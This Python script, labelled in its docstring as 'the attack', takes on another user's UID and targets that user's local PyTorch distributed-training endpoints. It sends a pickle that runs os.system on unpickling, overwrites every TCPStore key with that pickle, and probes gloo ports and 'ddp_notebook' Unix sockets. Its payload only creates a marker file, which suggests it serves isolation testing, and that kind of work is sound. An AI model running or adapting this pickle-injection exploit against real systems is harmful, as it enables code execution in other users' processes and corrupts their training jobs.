"""The attack: run as root with the id of a user, it becomes that user and attacks the ports of others.

    python stranger.py UID MARKER PORT [PORT ...]

It prints a line of JSON for each port and Unix socket: what it has read there. MARKER is the file that a pickle of its
makes where it is loaded.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import socket
import struct
import sys
from pathlib import Path

import torch  # noqa: F401 - before the user is another one, who may not read it
from torch._C._distributed_c10d import TCPStore

_TRIES_S = 0.1
"a".encode("idna")  # a module that another user may not be able to read


class Planted:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self.marker}",)


def read(connection: socket.socket) -> str:
    connection.settimeout(_TRIES_S)
    with contextlib.suppress(OSError):
        return connection.recv(4096)[:64].hex() or "closed"
    return ""


def attack_port(port: int, planted: bytes) -> str:
    """Send what a peer of gloo's, a client of a store, a browser and a pickle would, on connections of their own."""
    said = []
    numbers = [struct.pack("<Q", number) for number in range(4)]
    for sent in (b"", *numbers, b"\x00" * 64, b"\xff" * 512, b"GET / HTTP/1.1\r\n\r\n", planted, b"\x01"):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=_TRIES_S) as one:
            one.sendall(sent)
            said.append(read(one))
    return " ".join(filter(None, said))


def attack_store(port: int, planted: bytes) -> list[str]:
    """Replace all keys of a TCPStore, and add those at which values were found to be unpickled once."""
    from datetime import timedelta

    store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
    keys = store.list_keys()
    for key in keys:
        store.set(key, planted)  # type: ignore[arg-type]  # torch's stub: text only
    return keys


def attack_socket(name: str, planted: bytes) -> str:
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
        one.settimeout(_TRIES_S)
        one.connect("\0" + name[1:] if name.startswith("@") else name)
        with contextlib.suppress(OSError):
            one.sendall(struct.pack("<I", 8) + struct.pack("<I", 4) + b"keys" + planted)
        return read(one) or "closed"
    return "refused"


def main(user: int, marker: str, ports: list[int]) -> None:
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
    planted = pickle.dumps(Planted(marker))
    *ports, master = ports
    for port in ports:
        print(json.dumps({"port": port, "read": attack_port(port, planted)}), flush=True)
    print(json.dumps({"master": master, "keys": attack_store(master, planted)}), flush=True)
    names = {line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines() if "ddp_notebook" in line}
    for name in sorted(names):
        print(json.dumps({"socket": name, "read": attack_socket(name, planted)}), flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], [int(port) for port in sys.argv[3:]])
